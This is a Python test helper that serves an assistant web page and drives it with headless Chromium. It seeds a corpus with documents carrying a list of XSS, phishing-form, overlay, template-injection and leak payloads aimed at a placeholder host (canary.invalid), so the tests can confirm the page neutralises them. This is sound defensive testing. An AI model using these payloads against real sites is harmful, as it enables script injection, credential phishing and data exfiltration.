"""The page as a browser sees it: a server with a small corpus and a paced model, and helpers to drive it.

Used by the browser tests and by the command that makes the screenshots.
"""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, nullcontext
from pathlib import Path
from typing import Any

from fakes import HashEncoder, document, small_corpus
from framewise.app.assistant import AnswerConfig, Assistant
from framewise.app.decide import DecisionConfig
from framewise.app.language_model import Constraint, Message, Stop
from framewise.app.write import WriteConfig
from framewise.corpus.document import Document, Source
from framewise.index.index import Index

CANARY = "http://canary.invalid"
HOSTILE = (
    "<script>window.hit=1</script>",
    "<img src=x onerror='window.hit=2'>",
    f"![leak]({CANARY}/image.png)",
    "[press](javascript:window.hit=3)",
    f"[away]({CANARY}/link)",
    f"<form action={CANARY}/form><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:red'>overlay</div>",
    "<svg><a href='javascript:window.hit=4'><text>svg</text></a></svg>",
    f"<style>body{{background:url({CANARY}/style)}}</style>",
    f"<iframe src={CANARY}/frame></iframe>",
    "${window.hit=5}{{constructor.constructor('window.hit=6')()}}",
    f"<{CANARY}/auto> {CANARY}/bare www.canary.invalid me@canary.invalid",
    "`` `$$\\href{javascript:window.hit=7}{x}$$` ``",
    "|a|b| <details ontoggle=window.hit=8 open>",
)


PACES = {"slowly": 0.05, "steadily": 0.002}  # seconds for a character, by a word of the question


class PacedModel:
    """Phrases by taking the numbered sources of its prompt one by one, a character at a time.

    Counts the characters, and says when the last one was made.
    """

    def __init__(self) -> None:
        self.typed = 0
        self.last_typed = 0.0
        self.writing = threading.Event()

    @property
    def id(self) -> str:
        return "paced"

    @property
    def vocabulary(self) -> Mapping[str, int]:
        return {chr(code): code for code in range(32, 127)}

    def write(
        self, messages: Sequence[Message], constraint: Constraint, *, max_tokens: int, stop: Stop
    ) -> Iterator[str]:
        asked = messages[-1]["content"]
        sources = re.findall(r"^\[(\d+)\] (.*)$", asked, re.MULTILINE)
        pause = next((each for word, each in PACES.items() if word in asked), 0.0)
        self.writing.set()
        try:
            for char in "".join(f"[{number}] {text}\n" for number, text in sources):
                if stop():
                    return
                if pause:
                    time.sleep(pause)
                self.typed += 1
                self.last_typed = time.monotonic()
                yield char
        finally:
            self.writing.clear()


def browser_corpus() -> list[Document]:
    """The small corpus, a page of twenty sentences on one matter, and pages that attack their reader."""
    many = "\n".join(
        f"Point {n} on Keras: for quick prototypes, choose Keras layer number {n} in classroom {n}."
        for n in range(1, 25)
    )
    evil = Source("evil", HOSTILE[1], HOSTILE[0], "2026-10-01", "none", "javascript:window.hit=9")
    documents = [
        *small_corpus(),
        document("keras", f"## Prototypes\n\n{many}", frameworks=("keras",), topics=("beginner",)),
    ]
    for n, payload in enumerate(HOSTILE):
        text = f"For hostile question {n} on Lightning, choose Lightning number {n}: {payload} ends here."
        documents.append(
            document(
                f"hostile{n:02}",
                f"## Part {payload}\n\n{text}",
                title=f"Hostile {payload}",
                kind="user",
                frameworks=("lightning",),
                sources=(evil,),
                marks=(),
            )
        )
    return documents


def small_assistant(folder: Path, model: PacedModel | str = "none") -> Assistant:
    """An Assistant over the browser tests' corpus."""
    index = Index.build(browser_corpus(), HashEncoder(), folder / "index")
    config = AnswerConfig(
        decision=DecisionConfig(min_cosine=0.1, min_cosine_unnamed=0.2, min_overlap=0.1),
        write=WriteConfig(max_sentences=20, max_fact_sentences=6, max_candidates=24),
    )
    return Assistant(index=index, model=model, scorer="none", config=config, today="2026-11-22")


class Served:
    """A page being served in this process."""

    def __init__(self, assistant: Assistant, home: Path, **options: Any) -> None:
        self.assistant, self.home, self._options = assistant, home, options
        self.address = ""
        self.start()

    def start(self) -> None:
        """Opens the page on a free port, or on the one it had."""
        from framewise.app import page, web

        before = os.environ.get("FRAMEWISE_HOME")
        os.environ["FRAMEWISE_HOME"] = str(self.home)
        try:
            self._page = page.build(self.assistant, **self._options)
            port = int(self.address.rsplit(":", 1)[1].strip("/")) if self.address else free_port()
            settings = web.launch_settings("127.0.0.1", port, open_browser=False, auth="")
            _, self.address, _ = self._page.launch(
                **settings, theme=page.theme(), prevent_thread_lock=True
            )
        finally:
            if before is None:
                del os.environ["FRAMEWISE_HOME"]
            else:
                os.environ["FRAMEWISE_HOME"] = before

    def stop(self) -> None:
        """Ends it."""
        self._page.close(verbose=False)

    def restart(self) -> None:
        """Ends it and opens it again at the same address, with nothing remembered but what is on disk."""
        self.stop()
        self.start()


def free_port() -> int:
    """A port that nobody listens on."""
    import socket

    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        return int(found.getsockname()[1])


def chromium_path() -> str:
    """The system's Chromium, "" where there is none."""
    named = os.environ.get("FRAMEWISE_CHROMIUM", "")
    names = ("chromium", "chromium-browser", "google-chrome")
    return named or next((path for name in names if (path := shutil.which(name))), "")


@contextmanager
def chromium() -> Iterator[Any]:
    """A headless browser."""
    from playwright.sync_api import sync_playwright

    arguments = [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-background-networking",
        "--disable-sync",
    ]
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path(), args=arguments)
        try:
            yield browser
        finally:
            browser.close()


class Visitor:
    """One person at one browser: notes every request that leaves the machine and every script error."""

    def __init__(self, browser: Any, address: str, *, query: str = "", **options: Any) -> None:
        self.context = browser.new_context(
            **{"viewport": {"width": 1440, "height": 900}, "accept_downloads": True, **options}
        )
        self.context.grant_permissions(["clipboard-read", "clipboard-write"])
        self.page = self.context.new_page()
        self.address = address.rstrip("/")
        self.outside: list[str] = []
        self.errors: list[str] = []
        self.page.on("request", self._note_request)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.open(query)

    def open(self, query: str = "") -> None:
        """Opens the page, and waits until it can be used."""
        self.page.goto(f"{self.address}/{query}")
        self.ready()

    def ready(self) -> None:
        """Waits until the page can be used."""
        self.page.wait_for_selector("#question textarea", timeout=30_000)
        self.page.wait_for_selector("#fw-list-note", state="attached", timeout=30_000)
        self.page.wait_for_function("window.framewise && window.framewise.ready", timeout=30_000)

    def ask(self, question: str, *, wait: bool = True) -> None:
        """Types a question and presses Enter."""
        self.page.fill("#question textarea", question)
        with self.answered() if wait else nullcontext():
            self.page.keyboard.press("Enter")

    @contextmanager
    def answered(self) -> Iterator[None]:
        """What is done inside leads to an answer; waits until it is whole and the page has settled."""
        before = self._count()
        yield
        self.page.wait_for_function(
            f"Number(document.body.dataset.answered || 0) > {before}", timeout=60_000
        )
        self.page.wait_for_selector("#question .submit-button", timeout=10_000)

    def settled(self) -> None:
        """Waits until nothing is being answered."""
        self.page.wait_for_selector("body:not(.fw-busy)", state="attached", timeout=60_000)
        self.page.wait_for_selector("#question .submit-button", timeout=10_000)

    def _count(self) -> int:
        return int(self.page.evaluate("Number(document.body.dataset.answered || 0)"))

    def answers(self) -> list[str]:
        """The texts of the answers, oldest first."""
        return list(
            self.page.evaluate(
                "[...document.querySelectorAll('#chat .bot-row .prose.chatbot')]"
                ".filter((each) => !each.closest('.thought-group')).map((each) => each.innerText)"
            )
        )

    def questions(self) -> list[str]:
        """The texts of the questions, oldest first."""
        rows = self.page.query_selector_all("#chat .user-row .prose.chatbot")
        return [row.inner_text().strip() for row in rows]

    def marks(self, turn: int = 1) -> list[Any]:
        """The citation marks of an answer's text."""
        return list(self.page.query_selector_all(f'#chat a[href*="#source-{turn}-"]'))

    def close(self) -> None:
        """Leaves."""
        self.context.close()

    def _note_request(self, request: Any) -> None:
        if not request.url.startswith((self.address, "data:", "blob:")):
            self.outside.append(request.url)
